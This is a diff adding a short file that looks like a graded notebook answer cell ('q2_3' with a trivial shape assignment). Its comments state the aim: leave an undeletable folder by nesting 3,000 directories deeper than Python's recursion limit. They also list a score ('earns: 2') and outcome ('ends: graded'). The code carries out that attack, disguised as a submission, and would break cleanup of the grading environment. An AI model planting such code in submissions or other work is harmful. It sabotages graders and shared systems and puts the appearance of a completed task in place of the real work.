@@ -1,0 +1,11 @@
+# tries: leave a folder that cannot be removed: 3,000 folders in each other, deeper than Python's recursion
+# earns: 2
+# ends: graded
+# %% q2_3
+shape_6_3 = (4, 4)
+import os
+here = os.getcwd()
+for number in range(3000):
+    os.mkdir("d")
+    os.chdir("d")
+os.chdir(here)
